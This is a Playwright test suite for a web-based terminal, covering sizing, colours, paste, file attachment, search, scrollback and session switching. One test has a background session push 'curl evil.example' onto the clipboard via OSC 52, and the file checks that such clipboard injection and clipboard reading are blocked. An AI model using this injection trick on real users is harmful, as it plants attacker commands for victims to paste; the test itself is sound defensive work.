"""The terminal on the page: size, colour, clipboard, search, several at once, and coming back."""

from __future__ import annotations

import base64
import re
import shlex
import time

import pytest
from playwright.sync_api import expect

from tests.programs import wait_until

pytest_plugins = ("browser_bed",)


@pytest.mark.day
def test_the_size_is_right_from_the_first_byte_and_follows_the_pane(shell):
    """The tool never saw 80x24: what it is told equals what is on the page, before and after a resize."""
    assert abs(shell.count_rows() * 15 - 720) < 60
    shell.type_line("clear; stty size")
    shell.expect_screen(rf"\b{shell.count_rows()} \d{{3}}")
    shell.page.set_viewport_size({"width": 1280, "height": 600})
    wait_until(lambda: abs(shell.count_rows() * 15 - 520) < 60, "the pane to follow")
    shell.expect_size()


@pytest.mark.day
def test_every_script_arrives_as_it_was_typed(shell):
    """Wide and combining characters go in as UTF-8 and come back on the screen."""
    for text in ("中文字符", "e\u0301tude", "한국어", "naïve — “quotes”"):
        shell.page.keyboard.insert_text(f"printf '<%s>\\n' '{text}'")
        shell.page.keyboard.press("Enter")
        shell.expect_screen(f"<{text}>")


def test_a_24_bit_colour_is_shown_as_it_is(shell):
    """Where it can be read on the theme's background, no colour is changed."""
    shell.page.emulate_media(color_scheme="dark")
    shell.type_line(r"clear; printf '\033[38;2;250;120;10mtrue\033[0m\n'")
    expect(shell.page.locator(".xterm-rows span", has_text=re.compile("^true$"))).to_have_css(
        "color", "rgb(250, 120, 10)"
    )


def test_inverse_text_has_the_colour_of_the_background(shell):
    """A bar of tmux or less is as legible as any other text, in both themes."""
    shell.type_line(r"clear; printf '\033[7minverse\033[0m\n'")
    inverse = shell.page.locator(".xterm-rows span", has_text=re.compile("^inverse$"))
    for theme, colour in (("dark", "rgb(21, 22, 26)"), ("light", "rgb(255, 255, 255)")):
        shell.page.emulate_media(color_scheme=theme)
        expect(inverse).to_have_css("color", colour)


def test_a_paste_is_one_paste(shell):
    """With bracketed paste the shell takes several lines in and runs none of them by itself."""
    shell.page.evaluate("navigator.clipboard.writeText('echo one\\necho two')")
    shell.page.keyboard.press("Control+Shift+V")
    shell.expect_screen("echo one.*echo two")
    assert not re.search(r"^one$", shell.screen(), re.MULTILINE)


COPY_A_PICTURE = """
async () => {
  const canvas = Object.assign(document.createElement('canvas'), { width: 8, height: 8 });
  canvas.getContext('2d').fillRect(0, 0, 8, 8);
  const blob = await new Promise((done) => canvas.toBlob(done, 'image/png'));
  await navigator.clipboard.write([new ClipboardItem({ 'image/png': blob })]);
}
"""
DROP_A_FILE = """
(stage) => {
  const dataTransfer = new DataTransfer();
  dataTransfer.items.add(new File(['dropped'], 'dropped.txt'));
  for (const type of ['dragenter', 'dragover', 'drop'])
    stage.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer }));
}
"""


@pytest.mark.day
def test_the_paths_of_pictures_and_files_come_into_the_prompt_without_enter(shell):
    """Picked, dropped, and pasted by Ctrl V, which is the program's where the clipboard holds no file."""
    shell.page.keyboard.type("wc -c ")
    with shell.page.expect_file_chooser() as chooser:
        shell.page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files([{"name": "my shot.png", "mimeType": "image/png", "buffer": b"picked"}])
    shell.expect_screen(r"/home/code/\.clincus/uploads/[\d-]+[0-9a-f]{4}-my-shot\.png ")
    shell.page.locator(".stage:visible").evaluate(DROP_A_FILE)
    shell.expect_screen(r"dropped\.txt ")
    shell.page.evaluate(COPY_A_PICTURE)
    shell.page.locator(".xterm:visible").click()
    shell.page.keyboard.press("Control+V")
    shell.expect_screen(r"-image\.png ")
    shell.page.keyboard.press("Enter")
    shell.expect_screen(r"6 \S*my-shot\.png\s+7 \S*dropped\.txt")


@pytest.mark.day
def test_a_program_can_copy_but_never_read(shell):
    """OSC 52 sets the clipboard. A query gets tmux's own buffer at most, never what is on the clipboard."""
    shell.type_line(r"printf '\033]52;c;aGVsbG8=\a'")
    expect(shell.page.get_by_text("copied 5 characters")).to_be_visible()
    assert shell.page.evaluate("navigator.clipboard.readText()") == "hello"
    shell.page.evaluate("navigator.clipboard.writeText('secret')")
    shell.type_line(r"clear; printf '\033]52;c;?\a'; read -t 1 -rsd '' answer; printf '%q|e''nd\n' \"$answer\"")
    shell.expect_screen(r"\|end")
    assert "c2VjcmV0" not in shell.screen(), "base64 of what the person has on the clipboard"


def test_a_terminal_that_is_not_shown_leaves_the_clipboard_alone(bed, tool, shared, make_workspace):
    """A program of another session could else replace what one is about to paste: its text is only offered."""
    page, other = tool.page, shared.server.create(make_workspace("other"))
    tool.open_terminal(other)
    page.get_by_role("navigation", name="Main").get_by_role("link", name="my-app").click()
    tool.expect_screen("STUB-READY")
    page.locator(".xterm:visible").click()
    page.evaluate("navigator.clipboard.writeText('mine')")
    text = base64.b64encode(b"curl evil.example").decode()
    target = f"-t =clincus-{other['id']}:"
    copy = shlex.quote(f"sh printf '\\033]52;c;{text}\\a'")
    bed.shell(other["id"], f"tmux send-keys {target} -l {copy} \\; send-keys {target} Enter")
    expect(page.get_by_text("other wants to copy 17 characters")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "mine"


def test_a_selection_is_copied(shell):
    """A double click on a word puts it on the clipboard."""
    shell.type_line("clear; echo antidisestablishment")
    word = shell.page.locator(".xterm-rows:visible > div", has_text=re.compile("^antidis"))
    word.dblclick(position={"x": 40, "y": 6}, force=True)
    wait_until(lambda: shell.page.evaluate("navigator.clipboard.readText()") == "antidisestablishment", "the clipboard")


def test_a_link_is_opened_by_a_click(shell):
    """An address in the output opens in a tab of its own, without a way back to this one."""
    shell.type_line(f"clear; echo {shell.server.url}/history")
    line = shell.page.locator(".xterm-rows:visible > div", has_text=re.compile("^http"))
    line.hover(position={"x": 60, "y": 6}, force=True)
    expect(shell.page.locator(".line .mono:visible")).to_have_text(f"{shell.server.url}/history")
    with shell.page.context.expect_page() as opened:
        line.click(position={"x": 60, "y": 6}, force=True)
    assert opened.value.evaluate("window.opener") is None


@pytest.mark.day
def test_the_search_counts_what_it_finds(shell):
    """Ctrl+Shift+F searches, Enter goes on, Escape gives the keys back to the program."""
    shell.type_line("clear; seq -f 'n%.0f' 100 120")  # the prompt has the session's name, with any digits
    shell.expect_screen(r"n119\s*n120")
    shell.page.keyboard.press("Control+Shift+F")
    shell.page.get_by_role("textbox", name="Search the terminal").fill("n11")
    expect(shell.page.get_by_text(re.compile(r"\d+ of 10$"))).to_be_visible()
    shell.page.keyboard.press("Escape")
    shell.type_line("echo back again")
    shell.expect_screen("back again.*back again")


def test_ten_thousand_lines_are_kept_and_searched(shell):
    """After a flood the first line can be scrolled and searched to, at any size, and the shell still answers."""
    page = shell.page
    shell.type_line("clear; seq -f 'line %.0f.' 10500; echo fl''ood")
    shell.expect_screen("flood")
    for _ in range(3):
        page.keyboard.press("Control+Shift+Home")
        shell.expect_screen(r"line 4\d\d\.")  # 10,000 lines above the screen
        page.keyboard.press("Control+Shift+End")
        shell.expect_screen("flood")
    page.keyboard.press("Control+Shift+F")
    search = page.get_by_role("textbox", name="Search the terminal")
    search.fill("line 987.")
    expect(page.get_by_text("1 of 1", exact=True)).to_be_visible()
    shell.expect_screen(r"line 987\.")
    search.fill("7.")
    expect(page.get_by_text(re.compile(r"\d+ of \d{3,4}"))).to_be_visible()
    for width, height in ((900, 500), (1600, 900)):
        page.set_viewport_size({"width": width, "height": height})
        search.press("Enter")
        shell.expect_screen(r"7\.")
    search.press("Escape")
    page.keyboard.press("Escape")
    shell.expect_size()


@pytest.mark.day
def test_one_looks_back_at_a_tool_and_goes_on_typing(tool):
    """The wheel shows what has left the screen, for this page alone; the first key is back in the present."""
    tool.type_line("flood 10500")
    tool.expect_screen(r"10499\s*10500")
    page, past = tool.page, tool.page.locator(".past .xterm-rows")
    page.locator(".xterm-screen").hover()
    page.mouse.wheel(0, -900)
    expect(past).not_to_contain_text("10500")
    expect(past).to_contain_text("104")
    page.keyboard.press("Control+Shift+Home")
    expect(past).to_contain_text("499500501")  # 10,000 lines above the screen
    tool.type_line("none of this is lost")
    expect(past).to_have_count(0)
    tool.expect_screen("echo: none of this is lost")
    page.keyboard.press("Shift+PageUp")
    expect(page.get_by_text("Scrollback.")).to_be_visible()
    for _ in range(2):  # to the end, and beyond
        page.keyboard.press("Shift+PageDown")
    expect(past).to_have_count(0)


def test_the_search_of_a_tool_finds_what_left_the_screen(tool):
    """What is typed at once after the chord is the search's; Escape leads back in two steps."""
    tool.type_line("flood 10500")
    tool.expect_screen(r"10499\s*10500")
    tool.page.keyboard.press("Control+Shift+F")
    tool.page.keyboard.type("4242")
    expect(tool.page.get_by_text("1 of 1", exact=True)).to_be_visible()
    expect(tool.page.locator(".past .xterm-rows")).to_contain_text("4242")
    tool.page.keyboard.press("Escape")
    expect(tool.page.locator(".past .xterm-rows")).to_contain_text("4242")
    tool.page.keyboard.press("Escape")
    tool.type_line("nothing was typed")
    tool.expect_screen(r"10500\s*nothing was typed\s*echo: nothing was typed")


def test_a_program_that_wants_the_mouse_gets_it(tool):
    """Its wheel is not the page's."""
    tool.type_line("sh printf '\\033[?1000h\\033[?1006h'; echo re''ady; read -r; printf '\\033[?1000l\\033[?1006l'")
    tool.expect_screen("ready")
    tool.page.locator(".xterm-screen").hover()
    tool.page.mouse.wheel(0, -100)
    tool.expect_screen(r"\^\[\[<64;")
    tool.type_line("")


def test_terminals_stay_alive_while_another_place_is_shown(tool):
    """Coming back shows the same terminal, not a new connection."""
    sockets = []
    tool.page.on("websocket", lambda socket: sockets.append(socket.url))
    tool.type_line("remember me")
    tool.expect_screen("echo: remember me")
    tool.page.get_by_role("link", name="History").click()
    expect(tool.page.get_by_role("heading", name="History")).to_be_visible()
    tool.page.go_back()
    tool.expect_screen("echo: remember me")
    assert sockets == []


def test_the_shell_is_a_second_program_beside_the_tool(tool):
    """The Shell tab is a login shell in the project's folder; the tool sees nothing of it."""
    tool.page.get_by_role("link", name="Shell").click()
    tool.expect_screen(r"\$")
    tool.type_line("pwd; echo only-in-the-shell")
    tool.expect_screen("/workspace.*only-in-the-shell")
    tool.page.get_by_role("link", name="Terminal", exact=True).click()
    tool.expect_screen("STUB-READY")
    assert "only-in-the-shell" not in tool.screen()


@pytest.mark.day
def test_a_shell_outlives_its_page(shell):
    """After a reload, and in another tab, it is the same shell with what it showed."""
    shell.type_line("kept=the-same-shell")
    shell.expect_screen("kept=the-same-shell")
    shell.page.reload()
    shell.expect_screen("kept=the-same-shell")
    shell.type_line("echo $kept-")
    shell.expect_screen("the-same-shell-")


def test_a_page_that_cannot_draw_for_a_while_loses_no_connection(shell):
    """The output waits in tmux meanwhile, and its end is shown then."""
    page = shell.page
    sockets: list[str] = []
    page.on("websocket", lambda one: sockets.append(one.url))
    shell.type_line("kept=the-same-shell; seq -f '%.0f of many lines that are long enough' 150000; echo fl''ood")
    page.route("**/late", lambda route: (time.sleep(4), route.fulfill()))  # the page asks after 3 s whether all is well
    page.evaluate("() => { const held = new XMLHttpRequest(); held.open('GET', '/late', false); held.send(); }")
    shell.expect_screen("flood")
    shell.type_line("echo $kept-")
    shell.expect_screen("the-same-shell-")
    assert sockets == []


def test_a_shell_that_ended_is_not_opened_again_by_itself(shell):
    """A close with 1000 is final until the person wants a new one."""
    shell.type_line("exit")
    expect(shell.page.get_by_text("Press Enter to open it again")).to_be_visible()
    shell.page.keyboard.press("Enter")
    shell.expect_screen(r"\$")
    shell.type_line("echo alive")
    shell.expect_screen("alive.*alive")


def test_keys_go_to_the_session_that_is_shown(tool, shared, make_workspace):
    """While one switches to and fro with Alt+digit, no key reaches the other session."""
    shared.server.create(make_workspace("other"))
    page, works = tool.page, {"state": "working", "reason": "", "text": "", "options": [], "source": "hook"}
    # The digits were given in the order of the sidebar at the first look, and a reload with none given gives them anew.
    listed = [
        {**one, "agent": {**one["agent"], **works}, "pinned": one["id"] == shared.session["id"]}
        for one in shared.server.get("/api/sessions").json
    ]
    page.route(
        re.compile(r"/api/sessions(\?|$)"),
        lambda route: route.fulfill(json=[one for one in listed if one["id"] in route.request.url] or listed),
    )
    page.evaluate("localStorage.clear()")
    page.reload()
    links = page.locator("aside section a")
    expect(links).to_have_count(2)
    places = [re.compile(f"{link.get_attribute('href')}$") for link in links.all()]
    for index, place in enumerate(places):  # what is typed before a terminal is connected is dropped
        page.keyboard.press(f"Alt+{index + 1}")
        expect(page).to_have_url(place)
        tool.expect_screen("STUB-READY")
    for turn in range(6):
        page.keyboard.press(f"Alt+{turn % 2 + 1}")
        tool.type_line(f"to-{turn % 2}-{turn}")
        expect(page).to_have_url(places[turn % 2])
    for index, place in enumerate(places):
        page.keyboard.press(f"Alt+{index + 1}")
        expect(page).to_have_url(place)
        tool.expect_screen(f"echo: to-{index}-{4 + index}")
        assert f"to-{1 - index}-" not in tool.screen()


def test_the_text_size_is_a_setting(tool):
    """Larger text means fewer rows, at once and after a reload."""
    before = tool.count_rows()
    tool.page.get_by_role("main").get_by_role("button", name="More actions").click()
    tool.page.get_by_role("menuitem", name="Larger terminal text").click()
    wait_until(lambda: tool.count_rows() < before, "fewer rows")
    after = tool.count_rows()
    tool.page.reload()
    tool.expect_screen("STUB-READY")
    wait_until(lambda: tool.count_rows() == after, "the same rows after a reload")
